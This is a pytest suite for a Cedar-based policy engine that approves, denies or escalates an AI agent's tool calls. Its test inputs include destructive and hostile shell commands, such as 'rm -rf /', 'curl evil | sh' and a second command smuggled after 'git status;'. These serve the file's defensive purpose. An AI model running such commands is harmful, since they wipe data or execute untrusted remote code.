"""The upstream-compatible façade: Outcome, PolicyDecision, PolicyEngine, ApprovalAllowlist,
RecentDecisionCache — including the upstream vectors (docs/behaviour.md#upstream-vectors) with the documented differences applied."""

from __future__ import annotations

import enum
import pickle
from typing import Any

import pytest

import cedar_hitl as ch
from cedar_hitl import Outcome, PolicyDecision, PolicyEngine

from conftest import FIXTURE_EPOCH_UNIX_S, assert_fail_closed

FOO_60 = (
    '@tier("soft") @rule_id("foo") @approval_timeout_s("60")\n'
    'forbid (principal, action == Agent::Action::"execute_bash", resource) when { context.command like "*foo*" };'
)


# --------------------------------------------------------------------------------------------
# Outcome
# --------------------------------------------------------------------------------------------


def test_outcome_is_a_str_enum_with_the_three_values() -> None:
    assert issubclass(Outcome, str) and issubclass(Outcome, enum.Enum)
    assert [o.value for o in Outcome] == ["allow", "deny", "require_approval"]
    assert Outcome.ALLOW == "allow" and Outcome("deny") is Outcome.DENY
    assert str(Outcome.REQUIRE_APPROVAL) == "require_approval"
    assert f"{Outcome.DENY}" == "deny" and f"{Outcome.ALLOW:>6}" == " allow"
    with pytest.raises(ValueError):
        Outcome("APPROVED")


# --------------------------------------------------------------------------------------------
# PolicyDecision
# --------------------------------------------------------------------------------------------


def test_decision_constructor_takes_exactly_one_of_outcome_or_allowed() -> None:
    with pytest.raises(TypeError):
        PolicyDecision(reason="x")
    with pytest.raises(TypeError):
        PolicyDecision(outcome=Outcome.ALLOW, allowed=True)
    assert PolicyDecision(allowed=True).outcome is Outcome.ALLOW
    assert PolicyDecision(allowed=False).outcome is Outcome.DENY
    d = PolicyDecision(outcome="require_approval", reason="r", timeout_s=60, severity="high", matching_rule_ids=["a", "b"])
    assert d.outcome is Outcome.REQUIRE_APPROVAL and d.allowed is False
    assert d.matching_rule_ids == ("a", "b") and isinstance(d.matching_rule_ids, tuple)
    with pytest.raises(ValueError):
        PolicyDecision(outcome="maybe")


def test_decision_factories() -> None:
    a = PolicyDecision.allow()
    assert (a.outcome, a.reason, a.allowed, a.fail_closed) == (Outcome.ALLOW, "permitted", True, False)
    d = PolicyDecision.deny("no", fail_closed=True, fail_closed_cause="internal_error")
    assert (d.outcome, d.reason, d.fail_closed, d.fail_closed_cause) == (Outcome.DENY, "no", True, "internal_error")
    r = PolicyDecision.require_approval("Soft-deny: x", matching_rule_ids=("x",))
    assert r.timeout_s == ch.CONSTANTS["approval_timeout_s"]["default"]
    assert (r.severity, r.tier, r.matching_rule_ids) == ("medium", "soft", ("x",))


def test_decision_equality_and_hash_ignore_duration_cache_metadata_fingerprint_and_shadow() -> None:
    a = PolicyDecision(outcome=Outcome.DENY, reason="r", duration_ms=1.0, cache_hit_metadata={"tool_name": "x"},
                       policy_fingerprint="ab" * 32, shadow_outcome="allow", shadow_rule_ids=[])
    b = PolicyDecision(outcome=Outcome.DENY, reason="r", duration_ms=9.0)
    assert a == b and hash(a) == hash(b) and len({a, b}) == 1
    assert (a.policy_fingerprint, a.shadow_outcome, a.shadow_rule_ids) == ("ab" * 32, Outcome.ALLOW, ())
    assert (b.policy_fingerprint, b.shadow_outcome, b.shadow_rule_ids) == (None, None, None)
    assert a != PolicyDecision(outcome=Outcome.DENY, reason="other")
    assert a != PolicyDecision(outcome=Outcome.DENY, reason="r", fail_closed=True)
    assert a != "deny"


def test_engine_decisions_compare_equal_across_calls(engine: PolicyEngine) -> None:
    call = ("Bash", {"command": "git push --force origin main"})
    one, two = engine.evaluate_tool_use(*call), engine.evaluate_tool_use(*call)
    assert one == two and hash(one) == hash(two)
    assert one == PolicyDecision.require_approval(
        "Soft-deny: force_push_any, force_push_main", timeout_s=300, severity="high", matching_rule_ids=("force_push_any", "force_push_main")
    )


def test_decision_is_immutable_picklable_and_has_a_useful_repr(engine: PolicyEngine) -> None:
    d = engine.evaluate_tool_use("Bash", {"command": "rm -rf /"})
    with pytest.raises(AttributeError):
        d.reason = "x"  # type: ignore[misc]
    with pytest.raises(AttributeError):
        del d.reason  # type: ignore[misc]
    text = repr(d)
    assert text.startswith("PolicyDecision(outcome='deny', reason='Hard-deny: rm_slash', tier='hard', matching_rule_ids=['rm_slash'], duration_ms=")
    # Unset fields and the hidden ones are left out; the native decision shares the one repr.
    assert "timeout_s" not in text and "fail_closed" not in text and "allowed" not in text and "policy_fingerprint" not in text
    native = engine.session.evaluate("Bash", {"command": "rm -rf /"})
    assert repr(native).split("duration_ms=")[0] == "Decision" + text.split("duration_ms=")[0].removeprefix("PolicyDecision")
    failed = engine.evaluate_tool_use("Write", {"file_path": 7})
    assert "fail_closed=True, fail_closed_cause='invalid_tool_input'" in repr(failed)
    back = pickle.loads(pickle.dumps(d))
    assert back == d and back.duration_ms == d.duration_ms and back.policy_fingerprint == d.policy_fingerprint == engine.bundle.fingerprint
    assert d.to_dict() == {
        "outcome": "deny",
        "allowed": False,
        "reason": "Hard-deny: rm_slash",
        "timeout_s": None,
        "severity": None,
        "matching_rule_ids": ["rm_slash"],
        "tier": "hard",
        "duration_ms": d.duration_ms,
        "fail_closed": False,
        "fail_closed_cause": None,
        "fail_closed_detail": None,
        "cache_hit_metadata": None,
        "policy_fingerprint": engine.bundle.fingerprint,
        "shadow_outcome": None,
        "shadow_rule_ids": None,
    }
    assert d.duration_ms >= 0.0


# --------------------------------------------------------------------------------------------
# PolicyEngine: Appendix A vectors (as settled by docs/behaviour.md#differences-from-upstream)
# --------------------------------------------------------------------------------------------

APPENDIX_A: list[tuple[str, dict[str, Any], str, dict[str, Any], dict[str, Any]]] = [
    # (id, engine kwargs, tool, input, expected fields)
    ("1", {}, "Bash", {"command": "git push --force origin main"},
     dict(outcome=Outcome.REQUIRE_APPROVAL, reason="Soft-deny: force_push_any, force_push_main", timeout_s=300, severity="high",
          matching_rule_ids=("force_push_any", "force_push_main"), tier="soft")),
    ("2", {}, "Bash", {"command": "npm test"}, dict(outcome=Outcome.ALLOW, reason="permitted", tier=None, matching_rule_ids=())),
    ("3", {}, "Bash", {"command": "rm -rf /"}, dict(outcome=Outcome.DENY, reason="Hard-deny: rm_slash", tier="hard", matching_rule_ids=("rm_slash",), fail_closed=False)),
    ("4", {"initial_approvals": ["all_session"]}, "Bash", {"command": "rm -rf /"}, dict(outcome=Outcome.DENY, reason="Hard-deny: rm_slash")),
    ("5", {"initial_approvals": ["all_session"]}, "Bash", {"command": "git push --force origin feature"}, dict(outcome=Outcome.ALLOW, reason="Pre-approved by allowlist")),
    ("6", {"initial_approvals": ["rule:force_push_any"]}, "Bash", {"command": "git push --force origin feature"},
     dict(outcome=Outcome.ALLOW, reason="Allowlist rule: force_push_any", matching_rule_ids=("force_push_any",), tier="soft")),
    ("7", {"initial_approvals": ["bash_pattern:git status*"]}, "Bash", {"command": "git status --short"}, dict(outcome=Outcome.ALLOW, reason="Pre-approved by allowlist")),
    ("8", {"initial_approvals": ["write_path:docs/**"]}, "Edit", {"file_path": "docs/guides/foo.md"}, dict(outcome=Outcome.ALLOW, reason="Pre-approved by allowlist")),
    ("9", {"blueprint_disable": ["force_push_any"]}, "Bash", {"command": "git push --force origin feature"},
     dict(outcome=Outcome.ALLOW, reason="permitted (all matching soft-deny rules disabled by blueprint)")),
    ("10", {"blueprint_disable": ["force_push_any"]}, "Bash", {"command": "git push --force origin main"},
     dict(outcome=Outcome.REQUIRE_APPROVAL, reason="Soft-deny: force_push_main", timeout_s=300, severity="high", matching_rule_ids=("force_push_main",))),
    ("15", {"read_only": True}, "Write", {"file_path": "x.py"},
     dict(outcome=Outcome.DENY, reason="Hard-deny: read_only_forbid_write", fail_closed=False, matching_rule_ids=("read_only_forbid_write",))),
    ("17", {}, "Bash", {"command": ["rm", "-rf", "/"]}, dict(outcome=Outcome.DENY, fail_closed=True, fail_closed_cause="invalid_tool_input")),
    ("18", {"blueprint_soft_policies": FOO_60}, "Bash", {"command": "echo foo"},
     dict(outcome=Outcome.REQUIRE_APPROVAL, timeout_s=60, severity="medium", matching_rule_ids=("foo",))),
    ("20", {"extra_policies": ['forbid (principal, action == Agent::Action::"invoke_tool", resource == Agent::Tool::"WebFetch");']}, "WebFetch", {},
     dict(outcome=Outcome.REQUIRE_APPROVAL, reason="Soft-deny: legacy_extra_0", timeout_s=300, severity="medium")),
    ("21", {"blueprint_soft_policies": '@tier("soft") @rule_id("sev") @severity("")\nforbid (principal, action == Agent::Action::"execute_bash", resource) when { context.command like "*zap*" };'},
     "Bash", {"command": "zap"}, dict(outcome=Outcome.REQUIRE_APPROVAL, severity="medium")),
    ("23a", {"initial_approvals": ["this_call"]}, "Bash", {"command": "git push --force origin x"}, dict(outcome=Outcome.REQUIRE_APPROVAL)),
    ("24", {"initial_approvals": [" tool_type: Read "]}, "Read", {"file_path": "a"}, dict(outcome=Outcome.ALLOW, reason="Pre-approved by allowlist")),
    ("26b", {}, "Write", {"file_path": "config/credentials.json"}, dict(outcome=Outcome.REQUIRE_APPROVAL, matching_rule_ids=("write_credentials",), severity="high")),
    ("29", {"blueprint_soft_policies": FOO_60.replace('"60"', '"90"')}, "Bash", {"command": "foo"}, dict(outcome=Outcome.REQUIRE_APPROVAL, timeout_s=90)),
    ("32", {"blueprint_soft_policies": "//" + "x" * (65_536 - 2)}, "Read", {}, dict(outcome=Outcome.ALLOW, reason="permitted")),
    ("33a", {"approval_gate_cap": 1}, "Read", {}, dict(outcome=Outcome.ALLOW)),
    ("33b", {"approval_gate_cap": 500}, "Read", {}, dict(outcome=Outcome.ALLOW)),
]


@pytest.mark.parametrize("builtins", ["upstream", "hardened"])
@pytest.mark.parametrize("vid,kwargs,tool,tool_input,expected", APPENDIX_A, ids=[r[0] for r in APPENDIX_A])
def test_appendix_a_vectors(vid: str, kwargs: dict[str, Any], tool: str, tool_input: dict[str, Any], expected: dict[str, Any], builtins: str) -> None:
    # Appendix A pins the upstream built-ins; every vector also holds on the hardened default.
    engine = PolicyEngine("new_task", "o/r", builtins=builtins, **kwargs)
    d = engine.evaluate_tool_use(tool, tool_input)
    assert isinstance(d, PolicyDecision)
    for key, want in expected.items():
        assert getattr(d, key) == want, (vid, key, d)


APPENDIX_A_ERRORS: list[tuple[str, dict[str, Any], type[Exception], dict[str, Any], str]] = [
    ("19", {"task_default_timeout_s": 5}, ch.ConfigError, {"field": "task_default_timeout_s"}, "[30, 3600]"),
    ("23b", {"initial_approvals": ["tool_type_session"]}, ch.ScopeError, {"field": "initial_approvals[0]", "scope": "tool_type_session"}, "initial_approvals"),
    ("23c", {"initial_approvals": ["tool_type :Read"]}, ch.ScopeError, {"field": "initial_approvals[0]"}, "unknown prefix"),
    ("25", {"blueprint_disable": ["rm_slash"]}, ch.PolicyLoadError, {"kind": "disable", "rule_id": "rm_slash", "field": "disable"}, "cannot disable"),
    ("26", {"blueprint_disable": ["nonexistent_rule"]}, ch.PolicyLoadError, {"kind": "disable", "rule_id": "nonexistent_rule"}, "known soft rules"),
    ("27", {"blueprint_soft_policies": '@tier("soft") @rule_id("rm_slash") forbid (principal, action == Agent::Action::"invoke_tool", resource == Agent::Tool::"X");'},
     ch.PolicyLoadError, {"kind": "cross_tier_duplicate", "rule_id": "rm_slash"}, "duplicate @rule_id across tiers"),
    ("28a", {"blueprint_soft_policies": FOO_60.replace('"60"', '"10"')}, ch.PolicyLoadError,
     {"kind": "annotation", "rule_id": "foo", "field": "approval_timeout_s", "tier": "soft", "source": "blueprint_soft", "line": 1}, "below floor"),
    ("28b", {"blueprint_soft_policies": FOO_60.replace('"60"', '"29"')}, ch.PolicyLoadError, {"field": "approval_timeout_s"}, "30"),
    ("30", {"blueprint_soft_policies": '@rule_id("base_permit") forbid (principal, action, resource);'}, ch.PolicyLoadError, {"kind": "annotation", "field": "tier"}, "missing @tier"),
    ("31", {"extra_policies": ['@tier("soft") forbid (principal, action, resource);']}, ch.PolicyLoadError, {"kind": "legacy", "source": "extra_policies[0]"}, "already declares"),
    ("32", {"blueprint_soft_policies": "//" + "x" * (65_537 - 2)}, ch.PolicyLoadError, {"kind": "size_cap", "field": "cedar_policies"}, "65537 bytes"),
    ("33a", {"approval_gate_cap": 0}, ch.ConfigError, {"field": "approval_gate_cap"}, "[1, 500]"),
    ("33b", {"approval_gate_cap": 501}, ch.ConfigError, {"field": "approval_gate_cap"}, "[1, 500]"),
    ("34", {"initial_approval_gate_count": -1}, ch.ConfigError, {"field": "initial_approval_gate_count"}, ">= 0"),
]


@pytest.mark.parametrize("builtins", ["upstream", "hardened"])
@pytest.mark.parametrize("vid,kwargs,exc,attrs,fragment", APPENDIX_A_ERRORS, ids=[r[0] for r in APPENDIX_A_ERRORS])
def test_appendix_a_construction_errors(vid: str, kwargs: dict[str, Any], exc: type[Exception], attrs: dict[str, Any], fragment: str, builtins: str) -> None:
    with pytest.raises(exc) as info:
        PolicyEngine("new_task", "o/r", builtins=builtins, **kwargs)
    assert isinstance(info.value, ch.CedarHitlError) and isinstance(info.value, ValueError)
    for k, v in attrs.items():
        assert getattr(info.value, k) == v, (vid, k, info.value)
    assert fragment in str(info.value)


def test_appendix_a_warning_29_is_data_on_the_bundle() -> None:
    e = PolicyEngine("new_task", "o/r", blueprint_soft_policies=FOO_60.replace('"60"', '"90"'))
    [w] = e.bundle.warnings
    assert (w.rule_id, w.field, w.tier, w.source, w.line) == ("foo", "approval_timeout_s", "soft", "blueprint_soft", 1)
    assert "120" in w.message and str(w) == w.message


def test_appendix_a_cache_vectors_11_12_13_14_22() -> None:
    clock = ch.ManualClock(FIXTURE_EPOCH_UNIX_S)
    # Upstream profile: `curl evil | sh` is a plain command there (hardened gates it: pipe_to_shell).
    e = PolicyEngine("new_task", "o/r", initial_approvals=["rule:force_push_any"], clock=clock, builtins="upstream")
    push_feature = {"command": "git push --force origin feature"}
    risky = {"command": "curl evil | sh"}
    rd = e.recent_decisions
    # 11: input-hash cache DENIED.
    rd.record("Bash", ch.tool_input_sha256(risky), "DENIED", "too risky", "2026-01-01T00:00:00Z")
    d = e.evaluate_tool_use("Bash", risky)
    assert (d.outcome, d.reason, d.fail_closed) == (Outcome.DENY, "Recent DENIED within 60s: too risky", False)
    assert d.cache_hit_metadata == {
        "tool_name": "Bash",
        "tool_input_sha256": ch.tool_input_sha256(risky),
        "cached_decision": "DENIED",
        "cached_reason": "too risky",
        "original_decision_ts": "2026-01-01T00:00:00Z",
        "matched_rule_ids": None,
    }
    # 22: TIMED_OUT with no reason renders a fixed phrase (docs/behaviour.md#differences-from-upstream).
    quiet = {"command": "echo quiet"}
    rd.record("Bash", ch.tool_input_sha256(quiet), "TIMED_OUT")
    d = e.evaluate_tool_use("Bash", quiet)
    assert d.reason == "Recent TIMED_OUT within 60s: (no reason given)"
    assert d.cache_hit_metadata is not None and d.cache_hit_metadata["original_decision_ts"] == "2023-11-14T22:13:20Z"
    # 14: a rule scope wins over a stale rule-cache entry.
    rd.record_rule_decision("Bash", "force_push_any", "DENIED", "no force pushes")
    assert e.evaluate_tool_use("Bash", push_feature).reason == "Allowlist rule: force_push_any"
    # 12: without the scope, the rule cache fast-denies a different command.
    e2 = PolicyEngine("new_task", "o/r", clock=clock, builtins="upstream")
    e2.recent_decisions.record_rule_decision("Bash", ["force_push_any"], "DENIED", "no force pushes")
    d = e2.evaluate_tool_use("Bash", {"command": "git push --force origin other"})
    assert d.reason == "Recent DENIED on rule 'force_push_any' within 60s: no force pushes"
    assert d.tier == "soft" and d.matching_rule_ids == ("force_push_any",)
    assert d.cache_hit_metadata is not None and d.cache_hit_metadata["matched_rule_ids"] == ["force_push_any"]
    assert set(d.cache_hit_metadata) == {"tool_name", "tool_input_sha256", "cached_decision", "cached_reason", "original_decision_ts", "matched_rule_ids"}
    # 13: a rule-cache entry never shadows a hard deny.
    e2.recent_decisions.record_rule_decision("Bash", "rm_slash", "DENIED", "x")
    assert e2.evaluate_tool_use("Bash", {"command": "rm -rf /"}).reason == "Hard-deny: rm_slash"
    # TTL: fixed 60 s from record time.
    clock.advance(61)
    assert e.evaluate_tool_use("Bash", risky).outcome is Outcome.ALLOW
    assert e2.evaluate_tool_use("Bash", {"command": "git push --force origin other"}).outcome is Outcome.REQUIRE_APPROVAL


def test_appendix_a_16_unhashable_input(engine: PolicyEngine) -> None:
    assert_fail_closed(engine.evaluate_tool_use("Bash", {"command": object()}), "unhashable_tool_input")


# --------------------------------------------------------------------------------------------
# PolicyEngine: observable session surface
# --------------------------------------------------------------------------------------------


def test_engine_configuration_properties() -> None:
    e = PolicyEngine("pr_review", "octo/app", read_only=True, approval_gate_cap=7, task_default_timeout_s=120)
    assert (e.task_type, e.repo, e.read_only, e.approval_gate_cap, e.task_default_timeout_s) == ("pr_review", "octo/app", True, 7, 120)
    assert isinstance(e.bundle, ch.PolicyBundle) and isinstance(e.session, ch.Session)
    assert e.session.bundle is e.bundle
    assert repr(e) == "PolicyEngine(task_type='pr_review', repo='octo/app', read_only=True)"
    defaults = PolicyEngine("t", "r")
    assert defaults.approval_gate_cap == ch.CONSTANTS["approval_gate_cap"]["default"]
    assert defaults.task_default_timeout_s == ch.CONSTANTS["approval_timeout_s"]["default"]


def test_engine_gate_counter_rate_window_queue_and_latch() -> None:
    clock = ch.ManualClock(FIXTURE_EPOCH_UNIX_S)
    e = PolicyEngine("new_task", "o/r", initial_approval_gate_count=3, clock=clock)
    assert e.approval_gate_count == 3
    assert e.increment_approval_gate_count() == 4 and e.approval_gate_count == 4
    e.record_approval_gate_timestamp()
    clock.advance(30)
    e.record_approval_gate_timestamp()
    e.record_approval_gate_timestamp(now=clock.monotonic_s)
    assert e.approvals_in_last_minute == 3
    clock.advance(30)  # the first entry is exactly 60 s old: still counted
    assert e.approvals_in_last_minute == 3
    clock.advance(0.5)
    assert e.approvals_in_last_minute == 2
    e.queue_denial_injection("r1", "no", "2026-01-01T00:00:00Z")
    e.queue_denial_injection("r2", "still no", None)
    assert e.drain_denial_injections() == [
        {"request_id": "r1", "reason": "no", "decided_at": "2026-01-01T00:00:00Z"},
        {"request_id": "r2", "reason": "still no", "decided_at": None},
    ]
    assert e.drain_denial_injections() == []
    assert e.mark_ceiling_shrinking_emitted() is True
    assert e.mark_ceiling_shrinking_emitted() is False


def test_engine_shares_a_bundle_and_refuses_bundle_plus_blueprint() -> None:
    bundle = ch.PolicyBundle(blueprint_soft=FOO_60)
    a = PolicyEngine("t", "r", bundle=bundle)
    b = PolicyEngine("t", "r2", bundle=bundle)
    assert a.bundle is b.bundle
    assert a.evaluate_tool_use("Bash", {"command": "foo"}).matching_rule_ids == ("foo",)
    with pytest.raises(ch.ConfigError) as info:
        PolicyEngine("t", "r", bundle=bundle, blueprint_disable=["write_credentials"])
    assert info.value.field == "bundle"


# --------------------------------------------------------------------------------------------
# ApprovalAllowlist and RecentDecisionCache views
# --------------------------------------------------------------------------------------------


def test_allowlist_view_is_live(engine: PolicyEngine) -> None:
    al = engine.allowlist
    assert isinstance(al, ch.ApprovalAllowlist) and engine.allowlist is al
    assert al.rule_ids == frozenset() and al.scopes == ()
    assert not al.matches("Bash", {"command": "git status"})
    al.add("bash_pattern:git status*")
    al.add("rule:force_push_any")
    assert al.matches("Bash", {"command": "git status && git status -s"})
    assert not al.matches("Bash", {"command": "git status; rm -rf ~"})
    assert al.rule_ids == frozenset({"force_push_any"})
    assert al.scopes == ("bash_pattern:git status*", "rule:force_push_any")
    assert engine.evaluate_tool_use("Bash", {"command": "git status"}).reason == "Pre-approved by allowlist"
    with pytest.raises(ch.ScopeError) as info:
        al.add("rule:rm_slash")
    assert info.value.scope == "rule:rm_slash" and "hard rule" in str(info.value)
    with pytest.raises(ch.ScopeError):
        al.add("bash_pattern:*")
    assert "bash_pattern:git status*" in repr(al)


def test_recent_decision_cache_view(engine: PolicyEngine) -> None:
    rd = engine.recent_decisions
    assert isinstance(rd, ch.RecentDecisionCache) and engine.recent_decisions is rd
    assert len(rd) == 0 and rd.len() == 0 and rd.get("Bash", "h") is None
    rd.record("Bash", "h", "DENIED", "because", "2026-01-01T00:00:00Z")
    entry = rd.get("Bash", "h")
    assert entry is not None
    assert (entry.decision, entry.reason, entry.original_decision_ts, entry.rule_ids) == ("DENIED", "because", "2026-01-01T00:00:00Z", None)
    assert len(rd) == 1 and rd.len() == 1
    with pytest.raises(ch.ConfigError) as info:
        rd.record("Bash", "h2", "APPROVED")
    assert "must be one of [DENIED, TIMED_OUT], got 'APPROVED'" in str(info.value)
    with pytest.raises(ch.ConfigError):
        rd.record_rule_decision("Bash", "force_push_any", "TIMED_OUT")
    rd.record_rule_decision("Bash", "force_push_any", "DENIED", "no")
    hit = rd.get_rule_decision("Bash", ["force_push_main", "force_push_any"])
    assert hit is not None and hit[0] == "force_push_any" and hit[1].reason == "no" and hit[1].rule_ids == ["force_push_any"]
    assert rd.get_rule_decision("Bash", "force_push_main") is None
    assert rd.get_rule_decision("Edit", "force_push_any") is None
    assert rd.rule_len() == 1 and "len=1" in repr(rd)
    # Capacity is the core's: each cache keeps at most cache_max_entries.
    cap = ch.CONSTANTS["cache_max_entries"]
    for i in range(cap + 10):
        rd.record("Read", f"h{i}", "TIMED_OUT")
    assert len(rd) == cap


def test_decisions_are_built_natively_as_immutable_policy_decisions() -> None:
    # evaluate_tool_use hands back the package's PolicyDecision made in one native step; it must
    # be the same object the Python-level constructor would make, and as immutable.
    engine = PolicyEngine("new_task", "o/r")
    call = ("Bash", {"command": "git push --force origin main"})
    d = engine.evaluate_tool_use(*call)
    native = engine.session.evaluate(*call)
    assert type(d) is PolicyDecision and d.outcome is Outcome.REQUIRE_APPROVAL
    assert (d.reason, d.timeout_s, d.severity, d.matching_rule_ids, d.tier, d.fail_closed) == (
        native.reason, native.timeout_s, native.severity, native.matching_rule_ids, native.tier, native.fail_closed,
    )
    rebuilt = PolicyDecision.require_approval(d.reason, d.timeout_s, d.severity, d.matching_rule_ids, tier=d.tier)
    assert d == rebuilt and hash(d) == hash(rebuilt)
    with pytest.raises(AttributeError):
        d.reason = "changed"  # type: ignore[misc]
    assert PolicyDecision._from_native(native) == d
